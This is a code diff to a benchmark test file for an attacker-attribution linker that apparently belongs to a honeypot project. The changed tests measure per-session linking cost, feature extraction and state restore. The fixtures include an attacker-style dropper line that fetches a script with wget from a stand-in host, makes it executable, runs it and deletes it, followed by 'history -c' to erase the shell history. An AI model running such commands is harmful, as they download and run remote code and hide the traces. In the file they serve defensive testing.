@@ -11,12 +11,13 @@ from statistics import mean, median
 
 import pytest
 
-from decnet.attribution.linking import Features, Linker
+from decnet.attribution.linking import Features, Linker, features_of, restored, state_of
+from decnet.events.session import SessionEnded
 from tests.linkkit import session
+from tests.plantkit import plant
 
 pytestmark = [pytest.mark.bench, pytest.mark.timeout(900)]
 FEW, MANY = 100, 100_000
-MEASURED = 2000
 STEPS = [f"{program} {'-x' * (n % 3)} /proc/{name}" for n, program in enumerate(("cat", "ls", "rm", "wget @", "sh", "ps", "chmod"))
          for name in ("cpuinfo", "meminfo", "mounts", "version", "stat")]  # fmt: skip
 
@@ -49,11 +50,10 @@ def sessions(count: int, seed: int) -> Iterator[Features]:
         yield session(address, float(at), script, sorted(set(logins)), **soft, **hard)
 
 
-def taken(linker: Linker, source: Iterator[Features]) -> list[float]:
-    """Seconds of CPU that each of the measured sessions took."""
+def taken(linker: Linker, fresh: list[Features]) -> list[float]:
+    """Seconds of CPU that each of some sessions took that bring new owners, kits and a crowd."""
     found = []
-    for _ in range(MEASURED):
-        features = next(source)
+    for features in fresh:
         started = time.process_time()
         linker.add(features)
         found.append(time.process_time() - started)
@@ -62,6 +62,7 @@ def taken(linker: Linker, source: Iterator[Features]) -> list[float]:
 
 def test_a_session_costs_the_same_with_a_hundred_and_a_hundred_thousand_addresses() -> None:
     figures = {}
+    fresh = sorted(plant(99, owners=30).sessions, key=lambda one: one.at)
     for count, known in ((FEW, 5 * FEW), (MANY, 5 * MANY)):
         gc.collect()
         before, linker, source = (
@@ -74,12 +75,46 @@ def test_a_session_costs_the_same_with_a_hundred_and_a_hundred_thousand_addresse
             linker.add(next(source))
         filled = time.process_time() - started
         used = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
-        times = taken(linker, source)
+        addresses = len(linker.index.profiles)
+        times = taken(linker, fresh)
         figures[count] = mean(times)
         print(
-            f"\nlinking, {len(linker.index.profiles)} addresses: {mean(times) * 1e3:.3f} ms a session (median "
-            f"{median(times) * 1e3:.3f}, longest {max(times) * 1e3:.1f}), {known} sessions before it in {filled:.0f} s,"
-            f" {used:.0f} MiB, {len(linker.identities())} identities, {len(linker.campaigns())} campaigns"
+            f"\nlinking, {addresses} addresses: {mean(times) * 1e3:.3f} ms a session (median {median(times) * 1e3:.3f},"
+            f" longest {max(times) * 1e3:.1f}), {known} sessions before them in {filled:.0f} s and {used:.0f} MiB,"
+            f" {len(linker.identities())} identities, {len(linker.campaigns())} campaigns"
         )
     assert max(figures.values()) <= 0.002
     assert figures[MANY] <= 1.2 * figures[FEW]
+
+
+def test_reading_a_session_and_following_all_that_changed() -> None:
+    lines = [
+        "uname -a",
+        "cd /tmp || cd /var/run; wget http://a.test/x.sh; chmod 777 {n}.sh; sh {n}.sh; rm -rf {n}.sh",
+        "history -c",
+    ]
+    said = {"session_id": "s", "attacker_ip": "203.0.113.7", "attacker_uuid": "u", "ended_at": 9.0}
+    parts = [
+        SessionEnded.parse({**said, "commands": [{"command_text": line.format(n=n)} for line in lines]}, [])
+        for n in range(500)
+    ]
+    started = time.process_time()
+    for part in parts:
+        features_of([part])
+    read = (time.process_time() - started) / len(parts)
+    linker, source = Linker(), sessions(20_000, 7)
+    for _ in range(40_000):
+        linker.add(next(source))
+    started = time.process_time()
+    linker.settle()
+    settled = time.process_time() - started
+    state = state_of(linker)
+    started = time.process_time()
+    restored(state)
+    again = time.process_time() - started
+    print(
+        f"\nlinking: features of a session {read * 1e3:.2f} ms; 20,000 addresses settled in {settled:.1f} s, restored in {again:.1f} s"
+    )
+    assert read <= 0.002
+    assert settled < 10
+    assert again < 20
